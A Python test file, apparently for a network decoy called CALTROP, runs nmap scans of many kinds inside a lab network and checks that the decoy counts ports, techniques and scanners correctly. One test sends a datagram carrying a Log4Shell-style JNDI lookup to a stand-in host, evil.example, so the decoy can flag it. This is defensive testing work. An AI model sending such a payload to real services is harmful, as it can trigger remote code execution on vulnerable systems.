"""What a decoy with privileges hears: test_decoy_hears.py CALTROP"""
import sys

from decoy_case import DecoyCase, main, ports_of, until

FAST = ("--min-rate", "20000")


class Hears(DecoyCase):
    peers = 2

    def scan(self, technique, *options, ports="-p-", target="10.9.0.1", source="10.9.0.2", kind="tcp"):
        """One scan of all ports is one alert, and every port of it is counted, or its loss in the kernel."""
        decoy = self.decoy("--observe")
        self.nmap(*options, ports, target=target)
        decoy.quiet()
        counts = decoy.counts()
        decoy.stop()
        actors = decoy.actors(source)
        self.assertEqual([a["caltrop"]["news"] for a in actors].count("new"), 1, actors)
        self.assertEqual({a["caltrop"]["actor"] for a in actors}, {actors[0]["caltrop"]["actor"]})
        last = actors[-1]["caltrop"]
        self.assertIn(technique, last["techniques"])
        self.assertGreaterEqual(last[kind]["count"] + counts["packets_dropped_total"], 65535, (last, counts))
        return decoy, last, counts

    def test_half_open(self):
        _, last, counts = self.scan("syn", "-sS")
        if not counts["packets_dropped_total"]:  # that none is on a machine at rest is the bench's to say
            self.assertEqual(len(ports_of(last["tcp"]["ports"])), 65535)

    def test_connect(self):
        self.scan("syn", "-sT")

    def test_null_fin_xmas(self):
        decoy = self.decoy("--observe")
        for option in ("-sN", "-sF", "-sX"):
            self.nmap(option, *FAST, "-p-")
        decoy.quiet()
        lost = decoy.counts()["packets_dropped_total"]
        decoy.stop()
        actors = decoy.actors("10.9.0.2")
        last = actors[-1]["caltrop"]
        self.assertEqual([a["caltrop"]["news"] for a in actors].count("new"), 1)
        self.assertEqual(sorted(last["techniques"]), ["fin", "null", "xmas"])
        self.assertGreaterEqual(last["touches"] + lost, 3 * 65535)

    def test_udp(self):
        self.scan("udp", "-sU", *FAST, kind="udp")

    def test_ipv6(self):
        self.scan("syn", "-6", "-sS", *FAST, target="fd09::1", source="fd09::2")

    def test_ping(self):
        decoy = self.decoy("--observe")
        for options, target in (((), "10.9.0.1"), (("-6",), "fd09::1")):
            self.network.on(self.peer, "nmap", "-n", "-sn", "-PE", "--send-ip", *options, target)
        until("both pings", lambda: {a["source"]["ip"] for a in decoy.actors()} >= {"10.9.0.2", "fd09::2"})
        self.assertEqual(decoy.actors("10.9.0.2")[0]["caltrop"]["techniques"], ["ping"])

    def test_services_asked_for_over_udp(self):
        """nmap -sU -sV: its questions are recorded, and nothing answers them."""
        decoy = self.decoy()
        said = self.nmap("-sU", "-sV", "--version-intensity", "1", "-p", "53,123,161", "--max-rtt-timeout", "200ms")
        decoy.quiet()
        decoy.stop()
        self.assertNotRegex(said, r"(?m)^\d+/udp +open ")
        asked = {c["destination"]["port"] for c in decoy.contacts() if c["network"]["transport"] == "udp"}
        self.assertEqual(asked, {53, 123, 161})
        self.assertEqual([a["caltrop"]["news"] for a in decoy.actors("10.9.0.2")].count("new"), 1)

    def test_odd_packets(self):
        """Cut into fragments, with options and extension headers, other requests than echo: what the documents say is heard, is; and what they say is not."""
        decoy = self.decoy("--observe")
        heard = [(("-sS", "-f", "-p", "1001"), 1001), (("-sS", "-f", "-f", "-p", "1002"), 1002), (("-sS", "--ip-options", "R", "-p", "1003"), 1003), (("-sS", "--data-length", "900", "--mtu", "24", "-p", "1004"), 1004),
                 (("-6", "-sS", "-p", "1005"), 1005), (("-sM", "-p", "2001"), None), (("-sA", "-p", "2002"), None), (("-sW", "-p", "2003"), None), (("-sY", "-p", "2004"), None), (("-sO", "-p", "2,47,132,136"), None)]
        for options, _ in heard:
            self.nmap(*options, target="fd09::1" if "-6" in options else "10.9.0.1")
        for n, code in enumerate(("s=socket.socket(10, 1); s.setsockopt(41, 59, bytes(8))",         # IPV6_DSTOPTS
                                  "s=socket.socket(10, 1); s.setsockopt(41, 54, bytes(8))",         # IPV6_HOPOPTS
                                  "s=socket.socket(2, 1); s.setsockopt(0, 4, b'\\x94\\x04\\0\\0')")):  # router alert
            self.network.on(self.peer, sys.executable, "-c", "import socket\n%s\nprint(s.connect_ex((%r, %d)))" % (code, "10.9.0.1" if n == 2 else "fd09::1", 1011 + n))
        # A datagram in fragments: the first has its port and what it says.
        self.network.on(self.peer, sys.executable, "-c", "import socket; s=socket.socket(2, 2); s.sendto(b'${jndi:ldap://evil.example/f}' + b'x' * 5000, ('10.9.0.1', 1021))")
        for option in ("-PE", "-PP", "-PM"):
            self.network.on(self.network.peers[1], "nmap", "-n", "-sn", "--send-ip", "--disable-arp-ping", option, "10.9.0.1")
        until("the payload", lambda: any(a["caltrop"].get("grade") == "exploit" for a in decoy.actors()))
        decoy.quiet()
        decoy.stop()
        mine = [decoy.actors(source)[-1]["caltrop"] for source in ("10.9.0.2", "fd09::2")]
        self.assertEqual(ports_of(mine[0]["tcp"]["ports"]) | ports_of(mine[1]["tcp"]["ports"]), {1001, 1002, 1003, 1004, 1005, 1011, 1012, 1013})
        self.assertEqual(ports_of(mine[0]["udp"]["ports"]), {1021})
        self.assertEqual(sorted(mine[0]["techniques"]), ["null", "syn", "udp"])
        pinged = decoy.actors("10.9.0.3")[-1]["caltrop"]
        self.assertEqual(pinged["techniques"], ["ping"])
        self.assertGreaterEqual(pinged["touches"], 3)

    def test_two_scanners_are_two(self):
        decoy = self.decoy("--observe")
        one = self.network.start(self.peer, "nmap", "-n", "-Pn", "-sS", "-p", "1-2000", "10.9.0.1", stdout=-3)
        two = self.network.start(self.network.peers[1], "nmap", "-n", "-Pn", "-sS", "-p", "3000-4000", "10.9.0.1", stdout=-3)
        one.wait()
        two.wait()
        decoy.quiet()
        decoy.stop()
        first, second = decoy.actors("10.9.0.2")[-1]["caltrop"], decoy.actors("10.9.0.3")[-1]["caltrop"]
        self.assertEqual(ports_of(first["tcp"]["ports"]), set(range(1, 2001)))
        self.assertEqual(ports_of(second["tcp"]["ports"]), set(range(3000, 4001)))
        self.assertNotEqual(first["actor"], second["actor"])

    def test_what_is_forwarded_is_not_its_business(self):
        """A packet to another host that is routed through this one."""
        self.network.on(self.host, "sysctl", "-qw", "net.ipv4.ip_forward=1")
        self.network.on(self.peer, "ip", "route", "add", "203.0.113.0/24", "via", "10.9.0.1")
        decoy = self.decoy("--answer", "all")
        self.nmap("-sS", "-p", "1-500", target="203.0.113.9")
        self.nmap("-sS", "-p", "7", target="10.9.0.1")
        decoy.quiet()
        decoy.stop()
        self.assertEqual(decoy.actors("10.9.0.2")[-1]["caltrop"]["tcp"]["ports"], "7")


if __name__ == "__main__":
    main()
